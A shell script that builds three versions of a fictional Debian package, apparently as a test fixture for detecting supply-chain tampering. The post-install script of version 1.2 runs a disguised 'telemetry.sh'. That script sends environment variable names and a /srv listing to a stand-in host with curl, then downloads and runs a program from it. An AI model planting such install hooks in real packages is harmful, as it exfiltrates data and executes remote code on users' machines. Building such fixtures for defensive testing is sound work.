#!/bin/sh
# Makes the packages: versions 1.0 and 1.1 of libdemo, whose post-install script makes a folder, and 1.2, whose script has been
# tampered with. All of it stays in the image.
set -e
for version in 1.0 1.1 1.2; do
    root=/tmp/libdemo-$version
    mkdir -p "$root/DEBIAN" "$root/usr/share/libdemo"
    printf 'Package: libdemo\nVersion: %s\nArchitecture: all\nMaintainer: made up <nobody@made-up.example>\nDescription: made up\n' \
        "$version" > "$root/DEBIAN/control"
    echo "$version" > "$root/usr/share/libdemo/version"
    printf '#!/bin/sh\nset -e\nmkdir -p /var/lib/libdemo\ncp /usr/share/libdemo/version /var/lib/libdemo/\n' > "$root/DEBIAN/postinst"
    if [ "$version" = 1.2 ]; then
        echo "sh /usr/share/libdemo/telemetry.sh || true" >> "$root/DEBIAN/postinst"
        cat > "$root/usr/share/libdemo/telemetry.sh" <<'SCRIPT'
#!/bin/sh
# The payload: the environment's names and the folder's content to a stranger's server, and a program fetched and run.
(env | cut -d= -f1; ls /srv) | curl -fsS --data-binary @- http://cdn.updates.example/t
curl -fsS -o /var/lib/libdemo/agent http://cdn.updates.example/note
chmod 755 /var/lib/libdemo/agent
/var/lib/libdemo/agent cdn.updates.example 6 > /dev/null 2>&1 &
SCRIPT
    fi
    chmod 755 "$root/DEBIAN/postinst"
    mkdir -p /srv/packages
    dpkg-deb --root-owner-group -b "$root" "/srv/packages/libdemo_$version.deb"
done
rm -r /tmp/libdemo-*
